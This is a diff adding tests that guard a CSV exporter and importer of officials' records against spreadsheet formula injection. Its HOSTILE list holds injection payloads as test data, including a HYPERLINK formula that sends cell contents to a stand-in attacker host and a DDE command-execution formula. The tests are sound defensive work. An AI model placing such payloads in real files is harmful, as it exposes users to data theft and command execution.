@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import unicodedata
 import uuid
 from datetime import date
@@ -287,3 +289,95 @@ def test_any_text_gives_officials_or_errors_never_an_exception(text: str) -> Non
     for error in result.errors:
         assert error.line >= 1
         assert error.message
+
+
+# ---- formulas (issue 20, point 2) ---------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "=1+2",
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_to_csv_writes_no_cell_a_spreadsheet_runs(delimiter: str) -> None:
+    officials = [
+        Official(
+            name,
+            [Title(name), Title("Bí thư")],
+            organization=name,
+            aliases=[name, "Huy"],
+            id=uuid.UUID(int=i),
+        )
+        for i, name in enumerate([*HOSTILE, "\t=1+2", "\r\n@x"])
+    ]
+    rows = _cells(to_csv(officials, delimiter=delimiter), delimiter)
+    assert len(rows) == len(officials) + 1
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), (row, cell)
+    marked = "'" + HOSTILE[0]
+    assert rows[1][:4] == [marked, marked + "; Bí thư", marked, marked + "; Huy"]
+    assert rows[7][0] == "'=1+2"  # the tab went with the whitespace: the = is first
+    assert rows[8][0] == "'@x"
+
+
+@pytest.mark.parametrize(
+    ("written", "imported"),
+    [
+        ("'=SUM(A1:A3)", "=SUM(A1:A3)"),  # the spreadsheet's text mark goes
+        ("'+84 912", "+84 912"),
+        ("'-", "-"),
+        ("'@Huy", "@Huy"),
+        ("''=x", "'=x"),  # one only
+        ("=SUM(A1:A3)", "=SUM(A1:A3)"),  # as written
+        ("'Ksor H'Hen", "'Ksor H'Hen"),  # an apostrophe before a letter stays
+        ("' =x", "' =x"),
+    ],
+)
+def test_import_takes_off_one_text_mark_before_a_formula_start(written: str, imported: str) -> None:
+    text = "full_name,titles,organization,aliases\r\n" + ",".join([written] * 4) + "\r\n"
+    (official,) = parse_officials_csv(text).officials
+    assert official.full_name == imported
+    assert [t.text for t in official.titles] == [imported]
+    assert official.organization == imported
+    assert official.aliases == [imported]
+
+
+_hostile_words = st.tuples(
+    st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''+", "'-", "=-", "@'"]), _words
+).map(lambda p: _normal(p[0] + p[1]))
+_hostile_officials = st.builds(
+    Official,
+    full_name=_hostile_words.filter(bool),
+    titles=st.lists(st.builds(Title, _hostile_words.filter(bool)), max_size=3),
+    organization=st.one_of(_hostile_words, st.sampled_from(HOSTILE)),
+    aliases=st.lists(_hostile_words.filter(bool), max_size=3),
+    retired=st.booleans(),
+    id=st.uuids(),
+)
+
+
+@settings(max_examples=300)
+@given(
+    st.lists(_hostile_officials, min_size=1, max_size=5, unique_by=lambda o: o.id),
+    st.sampled_from([",", ";", "\t"]),
+)
+def test_round_trip_of_names_that_start_like_formulas(
+    officials: list[Official], delimiter: str
+) -> None:
+    text = to_csv(officials, delimiter=delimiter)
+    for row in _cells(text, delimiter):
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+    result = parse_officials_csv(text)
+    assert result.errors == []
+    assert result.officials == officials
